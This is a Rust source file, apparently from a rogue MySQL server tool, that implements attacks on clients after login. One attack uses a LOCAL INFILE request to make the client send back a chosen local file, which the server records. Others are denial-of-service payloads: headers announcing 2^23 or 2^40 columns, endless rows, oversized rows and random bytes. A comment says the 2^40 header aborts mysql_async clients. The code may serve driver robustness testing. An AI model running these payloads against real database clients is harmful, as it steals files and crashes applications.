//! Attacks on authenticated clients.

use std::io;
use std::sync::atomic::Ordering::SeqCst;

use tokio::io::{AsyncRead, AsyncWrite, AsyncWriteExt};

use super::{RogueAttack, RogueConnection, responses};
use crate::fake_server::packets;
use crate::mysql_packets::{MAX_PAYLOAD_BYTES, read_packet, wait_for_disconnect, write_packet, write_packet_header};

const FILLER_CHUNK_SIZE: usize = 64 << 10;

/// Result set header that announces 2^23 columns.
/// Some MySQL drivers can allocate enough memory for 2^23 columns and then read the column definitions.
const LARGE_COLUMN_COUNT_PACKET: [u8; 4] = [0xfd, 0, 0, 0x80];
/// Result set header that announces 2^40 columns.
/// For 2^40 columns, `mysql_async` tries to allocate 32 TiB, which aborts the client process.
const HUGE_COLUMN_COUNT_PACKET: [u8; 9] = [0xfe, 0, 0, 0, 0, 0, 1, 0, 0];

impl<S: AsyncRead + AsyncWrite + Unpin> RogueConnection<S> {
    /// Returns false if the attack is possible only during the login.
    pub(super) async fn send_attack_after_login(&mut self, statement: &str) -> io::Result<bool> {
        let columns = responses::count_result_columns(statement).unwrap_or(1);
        let options = self.options.clone();
        if let RogueAttack::FullAuthentication
        | RogueAttack::ClearPassword
        | RogueAttack::OldPassword
        | RogueAttack::Sha256Password = options.mode
        {
            return Ok(false);
        }
        self.recording.attacks.fetch_add(1, SeqCst);
        match &options.mode {
            RogueAttack::LocalInfile(path) => self.request_local_infile(path).await?,
            RogueAttack::HugePacket { bytes } => self.send_huge_row(columns, *bytes).await?,
            RogueAttack::EndlessRows => self.send_endless_rows(columns).await?,
            RogueAttack::EndlessColumns => {
                write_packet(&mut self.stream, 1, &LARGE_COLUMN_COUNT_PACKET).await?;
                self.send_packet_repeatedly(2, &packets::encode_column_definition(&"c".repeat(64))).await?;
            }
            RogueAttack::HugeColumnCount => {
                write_packet(&mut self.stream, 1, &HUGE_COLUMN_COUNT_PACKET).await?;
                self.stream.flush().await?;
                wait_for_disconnect(&mut self.stream).await?;
            }
            _ => self.send_random_bytes().await?,
        }
        Ok(true)
    }

    async fn request_local_infile(&mut self, path: &str) -> io::Result<()> {
        write_packet(&mut self.stream, 1, &[&[0xfb], path.as_bytes()].concat()).await?;
        self.stream.flush().await?;
        loop {
            let (sequence, chunk) = read_packet(&mut self.stream).await?;
            if chunk.is_empty() {
                return write_packet(&mut self.stream, sequence.wrapping_add(1), &packets::OK_PACKET).await;
            }
            self.recording.packets.lock().push(chunk);
        }
    }

    async fn send_huge_row(&mut self, columns: usize, bytes: u64) -> io::Result<()> {
        let mut sequence = packets::send_column_definitions(&mut self.stream, columns).await?;
        let mut start: Vec<u8> = b"\x011".repeat(columns.saturating_sub(1));
        start.push(0xfe);
        start.extend_from_slice(&bytes.to_le_bytes());
        let mut left = usize::try_from(bytes).map_err(io::Error::other)? + start.len();
        let filler = vec![b'x'; FILLER_CHUNK_SIZE];
        loop {
            let payload = left.min(MAX_PAYLOAD_BYTES);
            write_packet_header(&mut self.stream, sequence, payload).await?;
            sequence = sequence.wrapping_add(1);
            let mut unsent = payload;
            while unsent > 0 {
                let source = if start.is_empty() { &filler } else { &start };
                let chunk = source.get(..source.len().min(unsent)).unwrap_or_default();
                self.stream.write_all(chunk).await?;
                self.recording.bytes_sent.fetch_add(chunk.len(), SeqCst);
                unsent -= chunk.len();
                start.clear();
            }
            left -= payload;
            // After a packet of the maximum size, the protocol requires another packet, which may be empty.
            if payload < MAX_PAYLOAD_BYTES {
                return write_packet(&mut self.stream, sequence, &packets::EOF_PACKET).await;
            }
        }
    }

    async fn send_endless_rows(&mut self, columns: usize) -> io::Result<()> {
        let sequence = packets::send_column_definitions(&mut self.stream, columns).await?;
        let statement = "x".repeat(1000);
        let mut values: Vec<Option<&[u8]>> = vec![Some(b"1"); columns];
        if let Some(last) = values.last_mut() {
            *last = Some(statement.as_bytes());
        }
        self.send_packet_repeatedly(sequence, &packets::encode_row(&values)).await
    }

    async fn send_packet_repeatedly(&mut self, mut sequence: u8, payload: &[u8]) -> io::Result<()> {
        loop {
            write_packet(&mut self.stream, sequence, payload).await?;
            self.recording.bytes_sent.fetch_add(payload.len(), SeqCst);
            sequence = sequence.wrapping_add(1);
        }
    }

    async fn send_random_bytes(&mut self) -> io::Result<()> {
        let mut state = 0x9e37_79b9_u32;
        for _ in 0..16 {
            let chunk: Vec<u8> = std::iter::repeat_with(|| {
                state ^= state << 13;
                state ^= state >> 17;
                state ^= state << 5;
                state.to_le_bytes()[0]
            })
            .take(FILLER_CHUNK_SIZE)
            .collect();
            self.stream.write_all(&chunk).await?;
            self.recording.bytes_sent.fetch_add(chunk.len(), SeqCst);
        }
        self.stream.shutdown().await
    }
}
